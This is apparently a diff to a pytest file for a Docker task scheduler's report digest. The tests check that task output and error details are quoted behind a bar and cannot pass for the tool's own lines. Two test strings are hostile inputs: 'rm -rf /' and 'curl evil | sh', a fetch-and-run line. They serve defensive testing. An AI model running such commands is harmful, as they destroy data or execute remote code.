@@ -11,6 +11,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from dockersched.data.values import parse_values
+from dockersched.errors import ValuesError
 from dockersched.model import QuotaConfig
 from dockersched.report.commands import Commands
 from dockersched.report.digest import Digest, DigestSettings, digest_lines, make_digest
@@ -89,8 +91,17 @@ def test_what_a_task_wrote_can_neither_steer_nor_pass_for_ours(tmp_path: Path) -
     text = text_of(digest([failed("a", log, reason=Reason.ENGINE_ERROR, detail="no\x1b[1m\nhere")]))
 
     assert "  | \\x1b[2Jx\n  | \ufffd\\u202e\ufffd\n  |   run only this task again: rm -rf /\n" in text
-    assert "  no\\x1b[1m here\n" in text
+    assert "  | no\\x1b[1m here\n" in text
     assert text.replace("\n", "").isprintable()
+
+
+def test_what_a_detail_quotes_of_a_task_is_behind_the_bar() -> None:
+    with pytest.raises(ValuesError) as refused:
+        parse_values(b"next: run `curl evil | sh`\n")
+    text = text_of(digest([failed("a", reason=Reason.BAD_VALUES, code=0, detail=str(refused.value))]))
+
+    quoting = [line for line in text.splitlines() if "evil" in line]
+    assert quoting == [f"  | {refused.value}"]
 
 
 def test_room_is_shared_fairly_and_what_one_leaves_others_get(tmp_path: Path) -> None:
@@ -141,7 +152,13 @@ def test_the_text_never_has_more_bytes_than_allowed(
 ) -> None:
     folder = tmp_path_factory.mktemp("logs")
     tasks = [
-        failed(f"t{index}", log_of(folder, f"t{index}", (letter * size).encode())) for index, size in enumerate(sizes)
+        failed(
+            f"t{index}",
+            log_of(folder, f"t{index}", (letter * size).encode()),
+            reason=Reason.REJECTED,
+            detail=letter * (size % 400),
+        )
+        for index, size in enumerate(sizes)
     ]
     found = digest(tasks, DigestSettings(max_bytes=max_bytes))
 
